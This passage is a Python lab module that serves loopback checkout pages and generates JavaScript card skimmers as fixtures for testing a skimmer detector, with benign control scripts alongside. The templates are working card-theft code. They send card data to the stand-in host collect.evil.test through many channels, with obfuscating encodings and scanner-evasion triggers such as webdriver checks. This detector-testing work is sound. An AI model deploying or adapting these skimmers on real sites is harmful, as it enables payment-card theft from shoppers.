"""A lab of web-skimmer fixtures: one checkout page per skimming technique, all on loopback.

``SkimmerLab`` is one ``ThreadingHTTPServer`` on 127.0.0.1 that serves five virtual hosts, chosen
by the Host header (map them to 127.0.0.1 with Chromium's ``--host-resolver-rules``):

``shop.test``             the checkout pages ``/case/{case_id}``, ``/static/pay.js``, ``/done`` and a
                          first-party collector hidden on the shop itself (``/media/catalog/x.php``)
``cdn.vendor.test``       the case scripts ``/s/{case_id}.js``, as a compromised vendor serves them
``pay.psp.test``          the payment provider: ``POST /v1/tokens`` (the LEGITIMATE destination)
``collect.evil.test``     the attacker: takes anything, ``/i.gif``, ``/ws`` (WebSocket), ``/frame.html``
``stats.analytics.test``  a benign analytics collector (204)

Every skimmer is written for these tests (none is copied from a real sample). A case script reads
the four card fields, joins them as ``number|exp|cvc|name`` (an object for ``json``), encodes the
result and sends it over one channel when its trigger fires. The JavaScript is composed from one
small template per reader, encoding, channel and trigger, so each case differs from the baseline
``image-b64-click`` in exactly one axis.

Every skimmer tags what it sends with its case id (``case=`` in the URL, or an ``{id}:`` prefix in
WebSocket frames, postMessage data and cookie values), so ``received_for(case_id)`` can attribute
hits. What reaches ``collect.evil.test``, the shop's first-party collector path and shop requests
carrying the skimmer cookie is recorded in ``received``; what reaches the payment provider and the
analytics host is recorded in ``benign_received``.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import html
import json
import re
import secrets
import struct
import threading
import time
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import parse_qs, unquote

from skimguard.loopback import LoopbackHandler, LoopbackServer

SHOP = "shop.test"
VENDOR = "cdn.vendor.test"
PSP = "pay.psp.test"
EVIL = "collect.evil.test"
ANALYTICS = "stats.analytics.test"
LAB_HOSTS = (SHOP, VENDOR, PSP, EVIL, ANALYTICS)

FIRST_PARTY_COLLECTOR = "/media/catalog/x.php"
SKIM_COOKIE = "_ga_x"  # the cookie the ``cookie`` channel writes
SEEN_COOKIE = "_sk_seen"  # the cookie the ``once`` trigger checks
STAGING_KEY = "_mage_cache_ck"  # the localStorage key the ``localstorage`` channel stages under
PROCESSING_MS = 2500  # pay.js "processing" pause between the click on #pay and /done
DELAY_MS = 2000  # the ``delay`` trigger
STAGE_MS = 1500  # the ``localstorage`` channel: staged value sent this long after the last write
# The key the ``aes`` encoding ships in its script (16 bytes, hex), so the tests can decrypt.
CIPHER_KEY_HEX = "6c61622d6b65792d6e6f742d61726561"

MAX_READ = 1024 * 1024  # request bodies larger than this are refused (413)
MAX_RECORDED_BODY = 64 * 1024  # what ``Received.body`` keeps
MAX_RECORDED_COOKIE = 4096
MAX_WS_FRAME = 64 * 1024  # a larger WebSocket frame closes the connection (1009)
MAX_WS_MESSAGE = 256 * 1024  # a larger fragmented message closes it too
WS_IDLE_TIMEOUT = 30.0
WS_GUID = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"
GIF = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")

CARD_VALUES = ("card_number", "expiry", "cvc", "holder")

_PLACEHOLDER = re.compile(r"\{\{(\w+)\}\}")
_CASE_PREFIX = re.compile(rb"([a-z0-9][a-z0-9-]{2,60}):")


def _fill(template: str, **values: object) -> str:
    """Replace ``{{key}}`` placeholders in one pass (inserted values are never re-scanned)."""
    return _PLACEHOLDER.sub(lambda m: str(values[m.group(1)]), template)


# --------------------------------------------------------------------------- cases


@dataclass(frozen=True)
class Case:
    """One checkout page with one skimmer (or one benign script) and what it should reveal.

    ``expect_host`` is where the card data goes, ``expect_channel`` the skimguard channel name that
    should carry the first sign of it, ``expect_values`` which canary values the script sends.
    """

    id: str
    channel: str
    encoding: str
    trigger: str
    malicious: bool
    expect_host: str | None
    expect_channel: str | None
    expect_values: tuple[str, ...]
    note: str
    script_host: str = VENDOR
    second_pass: str | None = None  # the identity preset a scan needs to see this skimmer fire


CHANNELS = ("image", "fetch", "xhr", "beacon", "websocket", "form", "navigation", "postmessage",
            "localstorage", "cookie", "first-party")
ENCODINGS = ("plain", "url", "b64", "rb64", "hex", "json", "charcodes", "nested3", "aes")
TRIGGERS = ("input", "blur", "click", "delay", "urlgate", "once", "webdriver", "mobile", "english")
# Triggers that spare the scan's first identity (a Japanese desktop): only a second pass as a
# mobile, English-speaking shopper sees them fire.
SECOND_PASS_TRIGGERS = {"mobile": "mobile-en", "english": "mobile-en"}
BASE_CHANNEL, BASE_ENCODING, BASE_TRIGGER = "image", "b64", "click"

# channel -> (expect_host, expect_channel, note)
_CHANNEL_FACTS: dict[str, tuple[str, str, str]] = {
    "image": (EVIL, "url", "baseline: new Image().src = collect.evil.test/i.gif?d=<data>"),
    "fetch": (EVIL, "body", "fetch() POST, text/plain body, no-cors, keepalive"),
    "xhr": (EVIL, "body", "XMLHttpRequest POST, form-urlencoded body d=<data>"),
    "beacon": (EVIL, "body", "navigator.sendBeacon() with the data as a text/plain body"),
    "websocket": (EVIL, "websocket", "WebSocket to ws://collect.evil.test/ws, one text frame '{id}:<data>'"),
    "form": (EVIL, "body", "a hidden <form> POSTed into a hidden iframe; the page does not move"),
    "navigation": (EVIL, "url", "location.href = collect.evil.test/r?d=<data>, which 302s back to /done"),
    "postmessage": (EVIL, "postMessage",
                    "postMessage('{id}:<data>') to a hidden collect.evil.test/frame.html, which forwards it "
                    "with new Image().src from the attacker's origin"),
    "localstorage": (EVIL, "localStorage",
                     f"on blur of the CVC field the data is staged in localStorage[{STAGING_KEY!r}] (the first "
                     f"sign) and {STAGE_MS / 1000:g} s later sent from there with an image beacon"),
    "cookie": (SHOP, "cookie",
               f"document.cookie = '{SKIM_COOKIE}={{id}}:<data>'; the browser then carries it to the shop's own "
               "server on every request (the lab records shop requests carrying it)"),
    "first-party": (SHOP, "url",
                    f"image beacon to the shop's OWN host {FIRST_PARTY_COLLECTOR}?d=<data>: a collector planted "
                    "on the victim server"),
}
_ENCODING_NOTES: dict[str, str] = {
    "plain": "raw 'number|exp|cvc|name' in the query (only what the browser escapes itself)",
    "url": "encodeURIComponent",
    "b64": "btoa",
    "rb64": "btoa, then the string reversed",
    "hex": "every character as two hex digits",
    "json": "JSON.stringify({n, e, c, h}), then encodeURIComponent",
    "charcodes": "character codes joined by ','",
    "nested3": "three layers: btoa(encodeURIComponent(reversed string))",
    "aes": "AES-GCM (WebCrypto) with a key in the script, base64 of iv+ciphertext; crypto.subtle needs a "
           "secure context, so over this lab's plain http the same script uses RC4 with the same key and "
           "framing (12-byte nonce + ciphertext). Nothing on the wire matches the canary: only runtime "
           "attribution (which script read the fields and which sent the request) can convict it",
}
_TRIGGER_NOTES: dict[str, str] = {
    "input": "on every input event of the number field: partial numbers too; the last send holds the "
             "full number (the other fields are still empty then)",
    "blur": "on blur of the CVC field (the name is typed after it, so it is not sent)",
    "click": "on click of #pay, capture phase, before pay.js tokenises and navigates",
    "delay": f"snapshot on blur of the filled CVC field, sent {DELAY_MS / 1000:g} s later",
    "urlgate": "checks the URL first (path has /case/ and the title/URL checkout-like words), then on click",
    "once": f"once per visitor: on click, unless cookie {SEEN_COOKIE} is set; then sets it",
    "webdriver": "does nothing when navigator.webdriver is true or the UA says HeadlessChrome; else on click",
    "mobile": "only for phones (a mobile user agent with touch support); else on click",
    "english": "only when the browser's language is English; else on click",
}
_TRIGGER_VALUES: dict[str, tuple[str, ...]] = {
    "input": ("card_number",),
    "blur": ("card_number", "expiry", "cvc"),
    "delay": ("card_number", "expiry", "cvc"),
}


def _malicious(channel: str, encoding: str, trigger: str) -> Case:
    host, expect_channel, channel_note = _CHANNEL_FACTS[channel]
    if channel == "localstorage":
        trigger = "blur"  # staging happens on blur; the id says so
    parts = [f"channel {channel}: {channel_note}"]
    if encoding != BASE_ENCODING:
        parts.append(f"encoding {encoding}: {_ENCODING_NOTES[encoding]}")
    if trigger != BASE_TRIGGER:
        parts.append(f"trigger {trigger}: {_TRIGGER_NOTES[trigger]}")
    return Case(
        id=f"{channel}-{encoding}-{trigger}", channel=channel, encoding=encoding, trigger=trigger,
        malicious=True, expect_host=host, expect_channel=expect_channel,
        expect_values=_TRIGGER_VALUES.get(trigger, CARD_VALUES), note="; ".join(parts),
        second_pass=SECOND_PASS_TRIGGERS.get(trigger),
    )


def _build_cases() -> dict[str, Case]:
    combos = [(c, BASE_ENCODING, BASE_TRIGGER) for c in CHANNELS]
    combos += [(BASE_CHANNEL, e, BASE_TRIGGER) for e in ENCODINGS]
    combos += [(BASE_CHANNEL, BASE_ENCODING, t) for t in TRIGGERS]
    cases: dict[str, Case] = {}
    for combo in combos:
        case = _malicious(*combo)
        cases.setdefault(case.id, case)
    benign = (
        Case("benign-token", "none", "none", "none", False, None, None, (),
             "only the legitimate token API: the vendor script is a trust badge that touches no field"),
        Case("benign-analytics", "image", "none", "load", False, None, None, (),
             "analytics: location.href and a random client id to stats.analytics.test on load and on "
             "click; no field values"),
        Case("benign-validator", "none", "none", "input", False, None, None, (),
             "a form-validation library: reads the number field, runs Luhn, toggles a CSS class, sends nothing"),
        Case("benign-replay", "beacon", "masked", "input", False, None, None, (),
             "session-replay-like: records input events with values masked as '****' and POSTs batches "
             "to stats.analytics.test"),
        Case("benign-psp-fields", "fetch", "json", "click", False, None, None, (),
             "the payment provider's own script (from pay.psp.test) reads the card fields and POSTs them "
             "to pay.psp.test: card data to an approved payment host is the legitimate case",
             script_host=PSP),
    )
    for case in benign:
        cases[case.id] = case
    return cases


CASES: dict[str, Case] = _build_cases()


# --------------------------------------------------------------------------- skimmer JavaScript

SKIMMER = """/*! cdn.vendor.test widget {{case}} | skimguard lab fixture: a skimmer written for tests */
(function (w, d) {
  "use strict";
  var CASE = "{{case}}";
  var EVIL = "http://collect.evil.test:{{port}}";
  function matches(el, sel) { return !!(el && el.matches && el.matches(sel)); }
  function onPay(e) { return !!(e.target && e.target.closest && e.target.closest("#pay")); }
  function ready(fn) {
    if (d.readyState === "loading") d.addEventListener("DOMContentLoaded", fn); else fn();
  }
  function join(card) { return [card.n, card.e, card.c, card.h].join("|"); }

  // read: the four card fields
{{reader}}
  // encode: card -> string (or a Promise of one)
{{encoder}}
  // send: string -> the attacker
{{channel}}
  function fire(card) {
    var out = encode(card || read());
    if (typeof out === "string") send(out); else out.then(send);
  }

  // trigger
{{trigger}}
})(window, document);
"""

READER = """  var SEL = {n: "{{n}}", e: "{{e}}", c: "{{c}}", h: "{{h}}"};
  function read() {
    function v(sel) { var el = d.querySelector(sel); return el ? el.value : ""; }
    return {n: v(SEL.n).replace(/\\s+/g, ""), e: v(SEL.e), c: v(SEL.c), h: v(SEL.h)};
  }"""

# How the readers find the fields; the cases take them in turn.
SELECTOR_STYLES: tuple[tuple[str, str, str, str], ...] = (
    ("[autocomplete=cc-number]", "[autocomplete=cc-exp]", "[autocomplete=cc-csc]", "[autocomplete=cc-name]"),
    ("#cc-number", "#cc-exp", "#cc-cvc", "#cc-name"),
    ("input[name=cc_number]", "input[name=cc_exp]", "input[name=cc_cvc]", "input[name=cc_name]"),
    ("form input[name*=num]", "form input[id$=exp]", "form input[name*=cvc],form input[name*=cvv]",
     "form input[name$=name]"),
)

ENCODERS: dict[str, str] = {
    "plain": """  function encode(card) { return join(card); }""",
    "url": """  function encode(card) { return encodeURIComponent(join(card)); }""",
    "b64": """  function encode(card) { return btoa(join(card)); }""",
    "rb64": """  function encode(card) { return btoa(join(card)).split("").reverse().join(""); }""",
    "hex": """  function encode(card) {
    return join(card).split("").map(function (ch) {
      return ("0" + ch.charCodeAt(0).toString(16)).slice(-2);
    }).join("");
  }""",
    "json": """  function encode(card) { return encodeURIComponent(JSON.stringify(card)); }""",
    "charcodes": """  function encode(card) {
    return join(card).split("").map(function (ch) { return ch.charCodeAt(0); }).join(",");
  }""",
    "nested3": """  function encode(card) {
    return btoa(encodeURIComponent(join(card).split("").reverse().join("")));
  }""",
    "aes": """  var KEY = "{{key}}";
  function bytes(hex) { return new Uint8Array(hex.match(/../g).map(function (h) { return parseInt(h, 16); })); }
  function rc4(key, data) {  // plain http has no crypto.subtle: the fallback cipher
    var s = [], i, j = 0, k, t, out = new Uint8Array(data.length);
    for (i = 0; i < 256; i++) s[i] = i;
    for (i = 0; i < 256; i++) { j = (j + s[i] + key[i % key.length]) & 255; t = s[i]; s[i] = s[j]; s[j] = t; }
    for (i = j = k = 0; k < data.length; k++) {
      i = (i + 1) & 255; j = (j + s[i]) & 255; t = s[i]; s[i] = s[j]; s[j] = t;
      out[k] = data[k] ^ s[(s[i] + s[j]) & 255];
    }
    return out;
  }
  function encode(card) {
    var iv = w.crypto.getRandomValues(new Uint8Array(12)), text = new TextEncoder().encode(join(card));
    var sealed;
    if (w.crypto.subtle) {
      sealed = w.crypto.subtle.importKey("raw", bytes(KEY), "AES-GCM", false, ["encrypt"])
        .then(function (key) { return w.crypto.subtle.encrypt({name: "AES-GCM", iv: iv}, key, text); });
    } else {
      var key = new Uint8Array(28); key.set(bytes(KEY)); key.set(iv, 16);
      sealed = Promise.resolve(rc4(key, text).buffer);
    }
    return sealed.then(function (ct) {
      var all = new Uint8Array(12 + ct.byteLength); all.set(iv); all.set(new Uint8Array(ct), 12);
      return encodeURIComponent(btoa(String.fromCharCode.apply(null, all)));
    });
  }""",
}

CHANNEL_JS: dict[str, str] = {
    "image": """  function send(p) { new Image().src = EVIL + "/i.gif?d=" + p + "&case=" + CASE; }""",
    "fetch": """  function send(p) {
    fetch(EVIL + "/c?case=" + CASE, {method: "POST", mode: "no-cors", keepalive: true,
                                     headers: {"Content-Type": "text/plain"}, body: p});
  }""",
    "xhr": """  function send(p) {
    var x = new XMLHttpRequest();
    x.open("POST", EVIL + "/x?case=" + CASE);
    x.setRequestHeader("Content-Type", "application/x-www-form-urlencoded");
    x.send("d=" + encodeURIComponent(p));
  }""",
    "beacon": """  function send(p) { navigator.sendBeacon(EVIL + "/b?case=" + CASE, p); }""",
    "websocket": """  function send(p) {
    var ws = new WebSocket("ws://collect.evil.test:{{port}}/ws?case=" + CASE);
    ws.onopen = function () { ws.send(CASE + ":" + p); ws.close(1000); };
  }""",
    "form": """  function send(p) {
    var name = "f" + Date.now(), frame = d.createElement("iframe"), form = d.createElement("form");
    var input = d.createElement("input");
    frame.name = name; frame.style.display = "none"; d.body.appendChild(frame);
    form.method = "POST"; form.action = EVIL + "/f?case=" + CASE; form.target = name;
    form.style.display = "none";
    input.type = "hidden"; input.name = "d"; input.value = p;
    form.appendChild(input); d.body.appendChild(form); form.submit();
  }""",
    "navigation": """  function send(p) { w.location.href = EVIL + "/r?d=" + p + "&case=" + CASE; }""",
    "postmessage": """  var frame = null, loaded = false, queue = [];
  ready(function () {
    frame = d.createElement("iframe");
    frame.src = EVIL + "/frame.html?case=" + CASE;
    frame.style.display = "none";
    frame.onload = function () { loaded = true; queue.splice(0).forEach(post); };
    d.body.appendChild(frame);
  });
  function post(msg) { frame.contentWindow.postMessage(msg, EVIL); }
  function send(p) { if (loaded) post(CASE + ":" + p); else queue.push(CASE + ":" + p); }""",
    "localstorage": """  var KEY = "{{staging_key}}", timer = 0;
  function send(p) {
    w.localStorage.setItem(KEY, p);
    clearTimeout(timer);
    timer = setTimeout(function () {
      var staged = w.localStorage.getItem(KEY);
      if (!staged) return;
      new Image().src = EVIL + "/i.gif?d=" + staged + "&case=" + CASE + "&via=ls";
      w.localStorage.removeItem(KEY);
    }, {{stage_ms}});
  }""",
    "cookie": """  function send(p) { d.cookie = "{{skim_cookie}}=" + CASE + ":" + p + "; path=/; max-age=86400"; }""",
    "first-party": """  function send(p) { new Image().src = "{{first_party}}?d=" + p + "&case=" + CASE; }""",
}

_ON_PAY_CLICK = """  d.addEventListener("click", function (e) { if (onPay(e)) fire(); }, true);"""

TRIGGER_JS: dict[str, str] = {
    "click": _ON_PAY_CLICK,
    "input": """  d.addEventListener("input", function (e) { if (matches(e.target, SEL.n)) fire(); }, true);""",
    "blur": """  d.addEventListener("blur", function (e) { if (matches(e.target, SEL.c)) fire(); }, true);""",
    "delay": """  d.addEventListener("blur", function (e) {
    if (!matches(e.target, SEL.c) || !e.target.value) return;
    var snapshot = read();
    setTimeout(function () { fire(snapshot); }, {{delay_ms}});
  }, true);""",
    "urlgate": """  var onCheckout = /\\/case\\//.test(w.location.pathname) &&
    /checkout|payment|onestep|firecheckout|kessai/i.test(d.title + " " + w.location.href);
  if (!onCheckout) return;
""" + _ON_PAY_CLICK,
    "once": """  function seen() { return /(?:^|;\\s*){{seen_cookie}}=/.test(d.cookie); }
  if (seen()) return;
  d.addEventListener("click", function (e) {
    if (!onPay(e) || seen()) return;
    d.cookie = "{{seen_cookie}}=1; path=/; max-age=31536000";
    fire();
  }, true);""",
    "webdriver": """  if (navigator.webdriver || /HeadlessChrome/.test(navigator.userAgent)) return;
""" + _ON_PAY_CLICK,
    "mobile": """  if (!/Android|iPhone|Mobile/.test(navigator.userAgent) || !("ontouchstart" in w)) return;
""" + _ON_PAY_CLICK,
    "english": """  if (!/^en\\b/i.test(navigator.language || "")) return;
""" + _ON_PAY_CLICK,
}

BENIGN_JS: dict[str, str] = {
    "benign-token": """/*! TrustBadge v1.2 | cdn.vendor.test | skimguard lab fixture (benign) */
(function (d) {
  "use strict";
  function show() {
    var badge = d.createElement("p");
    badge.id = "trust-badge";
    badge.textContent = "\\u{1F512} Secure checkout / \\u5b89\\u5fc3\\u306e\\u304a\\u652f\\u6255\\u3044";
    d.body.appendChild(badge);
  }
  if (d.readyState === "loading") d.addEventListener("DOMContentLoaded", show); else show();
})(document);
""",
    "benign-analytics": """/*! StatsTag v3 | cdn.vendor.test | skimguard lab fixture (benign) */
(function (w, d) {
  "use strict";
  var ENDPOINT = "http://stats.analytics.test:{{port}}/collect";
  var cid = Math.random().toString(36).slice(2) + "." + Date.now().toString(36);
  function hit(type) {
    new Image().src = ENDPOINT + "?t=" + type + "&cid=" + cid + "&dl=" + encodeURIComponent(w.location.href) +
      "&case={{case}}";
  }
  hit("pageview");
  d.addEventListener("click", function (e) {
    if (e.target && e.target.closest && e.target.closest("#pay")) hit("checkout");
  }, true);
})(window, document);
""",
    "benign-validator": """/*! CardCheck v0.9 | cdn.vendor.test | skimguard lab fixture (benign) */
(function (d) {
  "use strict";
  function luhn(digits) {
    var sum = 0;
    for (var i = 0; i < digits.length; i++) {
      var n = +digits[digits.length - 1 - i];
      if (i % 2) { n *= 2; if (n > 9) n -= 9; }
      sum += n;
    }
    return digits.length >= 12 && sum % 10 === 0;
  }
  d.addEventListener("input", function (e) {
    var t = e.target;
    if (!t || !t.matches || !t.matches("[autocomplete=cc-number]")) return;
    var digits = t.value.replace(/\\D/g, ""), ok = luhn(digits);
    t.classList.toggle("is-valid", ok);
    t.classList.toggle("is-invalid", !ok && digits.length >= 12);
  }, true);
})(document);
""",
    "benign-replay": """/*! ReplayLite v2 | cdn.vendor.test | skimguard lab fixture (benign) */
(function (w, d) {
  "use strict";
  var ENDPOINT = "http://stats.analytics.test:{{port}}/replay?case={{case}}";
  var sid = Math.random().toString(36).slice(2), queue = [];
  function flush() {
    if (!queue.length) return;
    navigator.sendBeacon(ENDPOINT, JSON.stringify({sid: sid, page: w.location.pathname, events: queue.splice(0)}));
  }
  d.addEventListener("input", function (e) {
    var t = e.target;
    if (!t || t.tagName !== "INPUT") return;
    queue.push({type: "input", at: Date.now(), target: "#" + t.id, value: "****"});  // values masked
  }, true);
  d.addEventListener("click", function (e) {
    queue.push({type: "click", at: Date.now(), target: e.target && e.target.id ? "#" + e.target.id : ""});
    flush();
  }, true);
  setInterval(flush, 1000);
  w.addEventListener("pagehide", flush);
})(window, document);
""",
    "benign-psp-fields": """/*! pay.psp.test fields v1 | skimguard lab fixture (benign: the PSP's own script) */
(function (d) {
  "use strict";
  var CHECK_URL = "http://pay.psp.test:{{port}}/v1/fields/check";
  function v(sel) { var el = d.querySelector(sel); return el ? el.value : ""; }
  d.addEventListener("click", function (e) {
    if (!(e.target && e.target.closest && e.target.closest("#pay"))) return;
    var card = {number: v("[autocomplete=cc-number]").replace(/\\D/g, ""), exp: v("[autocomplete=cc-exp]"),
                cvc: v("[autocomplete=cc-csc]"), name: v("[autocomplete=cc-name]")};
    fetch(CHECK_URL, {method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify(card)});
  }, true);
})(document);
""",
}


def case_script(case_id: str, port: int) -> str:
    """The JavaScript of one case, as its script host serves it."""
    case = CASES[case_id]
    values = {"case": case.id, "port": port}
    if not case.malicious:
        return _fill(BENIGN_JS[case.id], **values)
    style = SELECTOR_STYLES[list(CASES).index(case_id) % len(SELECTOR_STYLES)]
    parts = {
        "reader": _fill(READER, n=style[0], e=style[1], c=style[2], h=style[3]),
        "encoder": _fill(ENCODERS[case.encoding], key=CIPHER_KEY_HEX),
        "channel": _fill(CHANNEL_JS[case.channel], port=port, staging_key=STAGING_KEY, stage_ms=STAGE_MS,
                         skim_cookie=SKIM_COOKIE, first_party=FIRST_PARTY_COLLECTOR),
        "trigger": _fill(TRIGGER_JS[case.trigger], delay_ms=DELAY_MS, seen_cookie=SEEN_COOKIE),
    }
    return _fill(SKIMMER, **values, **parts)


# --------------------------------------------------------------------------- pages

CHECKOUT_PAGE = """<!doctype html>
<html lang="ja"><head><meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>お支払い / Checkout — {{case}}</title>
<style>body{font-family:system-ui,sans-serif;max-width:560px;margin:24px auto;padding:0 16px}
label{display:block;margin-top:12px}input{width:100%;padding:8px;box-sizing:border-box}
button{margin-top:16px;padding:10px 18px}.is-valid{outline:2px solid #2a2}.is-invalid{outline:2px solid #c22}</style>
</head><body>
<h1>お支払い / Checkout</h1>
<p>合計 / Total: <b>&yen;4,800</b> &middot; lab case <code>{{case}}</code></p>
<form id="card-form" autocomplete="on">
<label for="cc-number">カード番号 / Card number</label>
<input id="cc-number" name="cc_number" autocomplete="cc-number" inputmode="numeric" maxlength="19">
<label for="cc-exp">有効期限 / Expiry (MM/YY)</label>
<input id="cc-exp" name="cc_exp" autocomplete="cc-exp" placeholder="MM/YY" maxlength="5">
<label for="cc-cvc">セキュリティコード / Security code</label>
<input id="cc-cvc" name="cc_cvc" autocomplete="cc-csc" inputmode="numeric" maxlength="4">
<label for="cc-name">カード名義 / Name on card</label>
<input id="cc-name" name="cc_name" autocomplete="cc-name" placeholder="TARO YAMADA">
<button id="pay" type="button">支払う / Pay &yen;4,800</button>
<p id="status" role="status"></p>
</form>
<script src="/static/pay.js"></script>
<script src="{{script_url}}"></script>
</body></html>
"""

PAY_JS = """/* shop.test checkout: the card is tokenised by the payment provider, then the receipt is shown. */
(function (w, d) {
  "use strict";
  var TOKEN_URL = "http://pay.psp.test:{{port}}/v1/tokens", PROCESSING_MS = {{processing_ms}};
  var form = d.getElementById("card-form"), button = d.getElementById("pay"), status = d.getElementById("status");
  function val(id) { return d.getElementById(id).value; }
  function pay(ev) {
    ev.preventDefault();
    if (button.disabled) return;
    button.disabled = true;
    status.textContent = "処理中… / Processing…";
    var started = Date.now();
    var card = {number: val("cc-number").replace(/\\D/g, ""), exp: val("cc-exp"), cvc: val("cc-cvc"),
                name: val("cc-name")};
    fetch(TOKEN_URL, {method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify(card)})
      .then(function (r) { if (!r.ok) throw new Error("HTTP " + r.status); return r.json(); })
      .then(function (token) {
        var wait = Math.max(0, PROCESSING_MS - (Date.now() - started));
        setTimeout(function () { w.location.href = "/done?token=" + encodeURIComponent(token.id); }, wait);
      })
      .catch(function (e) { button.disabled = false; status.textContent = "error: " + e.message; });
  }
  button.addEventListener("click", pay);
  form.addEventListener("submit", pay);
})(window, document);
"""

DONE_PAGE = """<!doctype html>
<html lang="ja"><head><meta charset="utf-8"><title>ご注文完了 / Order complete</title></head>
<body><h1 id="done">ご注文ありがとうございました / Thank you for your order</h1>
<p>token: <code id="token">{{token}}</code></p></body></html>
"""

FRAME_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>frame</title></head><body>
<script>
window.addEventListener("message", function (e) {
  var m = String(e.data), k = m.indexOf(":");
  new Image().src = "/i.gif?via=pm&case=" + encodeURIComponent(m.slice(0, k)) +
    "&d=" + encodeURIComponent(m.slice(k + 1));
});
</script></body></html>
"""


# --------------------------------------------------------------------------- records


@dataclass(frozen=True)
class Received:
    """One request or WebSocket message that reached a recorded host.

    ``query`` is the raw query string; ``body`` the first 64 KiB of the body (of the message for
    ``channel == "websocket"``); ``cookie`` the Cookie header (first 4 KiB); ``case`` the case id the
    hit carries (``case=`` in the query, an ``{id}:`` prefix in the body or the skimmer cookie).
    """

    host: str
    method: str
    path: str
    query: str
    body: bytes
    channel: str  # "http" | "websocket"
    cookie: str = ""
    case: str | None = None
    time: float = field(default=0.0, compare=False)

    def param(self, name: str) -> str | None:
        """A query parameter, percent-decoded once (``+`` stays ``+``), or None."""
        for part in self.query.split("&"):
            key, sep, value = part.partition("=")
            if sep and key == name:
                return unquote(value)
        return None

    def form(self, name: str) -> str | None:
        """A field of a form-urlencoded body, or None."""
        values = parse_qs(self.body.decode("utf-8", "replace"), keep_blank_values=True).get(name)
        return values[0] if values else None

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", "replace")


def _case_of(query: str, body: bytes, cookie: str) -> str | None:
    for part in query.split("&"):
        key, sep, value = part.partition("=")
        if sep and key == "case":
            return unquote(value)[:80]
    match = _CASE_PREFIX.match(body)
    if match and match.group(1).decode() in CASES:
        return match.group(1).decode()
    jar = re.search(rf"(?:^|;\s*){SKIM_COOKIE}=([a-z0-9-]+):", cookie)
    if jar and jar.group(1) in CASES:
        return jar.group(1)
    return None


# --------------------------------------------------------------------------- the application


@dataclass
class _Reply:
    status: int = 200
    body: bytes = b""
    ctype: str = "text/plain; charset=utf-8"
    headers: list[tuple[str, str]] = field(default_factory=list)


def _text(status: int, text: str) -> _Reply:
    return _Reply(status, text.encode(), "text/plain; charset=utf-8")


def _js(source: str) -> _Reply:
    return _Reply(200, source.encode(), "application/javascript; charset=utf-8",
                  [("Access-Control-Allow-Origin", "*")])


def _json(status: int, data: object, headers: list[tuple[str, str]]) -> _Reply:
    return _Reply(status, json.dumps(data).encode(), "application/json", headers)


class _Lab:
    """Routing and records of all virtual hosts; independent of the socket server."""

    def __init__(self) -> None:
        self.port = 0
        self.lock = threading.Lock()
        self.received: list[Received] = []
        self.benign: list[Received] = []

    def record(self, host: str, method: str, path: str, query: str, body: bytes, cookie: str,
               channel: str = "http", benign: bool = False) -> None:
        hit = Received(host, method, path, query, body[:MAX_RECORDED_BODY], channel,
                       cookie[:MAX_RECORDED_COOKIE], _case_of(query, body, cookie), time.time())
        with self.lock:
            (self.benign if benign else self.received).append(hit)

    def handle(self, method: str, host: str, path: str, query: str, headers: dict[str, str],
               body: bytes) -> _Reply:
        cookie = headers.get("cookie", "")
        if host == SHOP:
            if path == FIRST_PARTY_COLLECTOR or f"{SKIM_COOKIE}=" in cookie:
                self.record(host, method, path, query, body, cookie)
            return self._shop(method, path, query)
        if host == VENDOR:
            return self._scripts(VENDOR, method, path)
        if host == PSP:
            if method == "POST":
                self.record(host, method, path, query, body, cookie, benign=True)
            return self._psp(method, path, headers, body)
        if host == EVIL:
            self.record(host, method, path, query, body, cookie)
            return self._evil(method, path)
        if host == ANALYTICS:
            if method != "OPTIONS":
                self.record(host, method, path, query, body, cookie, benign=True)
            return _Reply(204, b"", "text/plain", [("Access-Control-Allow-Origin", "*"),
                                                   ("Access-Control-Allow-Headers", "Content-Type"),
                                                   ("Access-Control-Allow-Methods", "GET, POST")])
        return _text(404, "unknown host\n")

    # ---- shop.test

    def _shop(self, method: str, path: str, query: str) -> _Reply:
        if path == FIRST_PARTY_COLLECTOR:
            return _Reply(200, GIF, "image/gif", [("Cache-Control", "no-store")])
        if method not in ("GET", "HEAD"):
            return _text(405, "method not allowed\n")
        if path.startswith("/case/") and path[6:] in CASES:
            case = CASES[path[6:]]
            script = f"http://{case.script_host}:{self.port}/s/{case.id}.js"
            page = _fill(CHECKOUT_PAGE, case=case.id, script_url=script)
            return _Reply(200, page.encode(), "text/html; charset=utf-8", [("Cache-Control", "no-store")])
        if path == "/static/pay.js":
            return _js(_fill(PAY_JS, port=self.port, processing_ms=PROCESSING_MS))
        if path == "/done":
            token = parse_qs(query).get("token", [""])[0][:64]
            return _Reply(200, _fill(DONE_PAGE, token=html.escape(token) or "-").encode(),
                          "text/html; charset=utf-8", [("Cache-Control", "no-store")])
        if path == "/favicon.ico":
            return _Reply(204, b"", "image/x-icon")
        return _text(404, "not found\n")

    # ---- cdn.vendor.test (and the PSP's own script)

    def _scripts(self, host: str, method: str, path: str) -> _Reply:
        match = re.fullmatch(r"/s/([a-z0-9-]+)\.js", path)
        if method in ("GET", "HEAD") and match and match.group(1) in CASES:
            case = CASES[match.group(1)]
            if case.script_host == host:
                return _js(case_script(case.id, self.port))
        return _text(404, "not found\n")

    # ---- pay.psp.test

    def _psp(self, method: str, path: str, headers: dict[str, str], body: bytes) -> _Reply:
        shop_origin = f"http://{SHOP}:{self.port}"
        cors = [("Vary", "Origin")]
        if headers.get("origin") == shop_origin:
            cors.append(("Access-Control-Allow-Origin", shop_origin))
        if method == "OPTIONS":
            return _Reply(204, b"", "text/plain", [*cors, ("Access-Control-Allow-Methods", "POST, OPTIONS"),
                                                   ("Access-Control-Allow-Headers", "Content-Type"),
                                                   ("Access-Control-Max-Age", "600")])
        if path.startswith("/s/"):
            reply = self._scripts(PSP, method, path)
        elif method == "POST" and path in ("/v1/tokens", "/v1/fields/check"):
            try:
                card = json.loads(body)
                digits = re.sub(r"\D", "", str(card.get("number", ""))) if isinstance(card, dict) else ""
            except ValueError:
                digits = ""
            if len(digits) < 12:
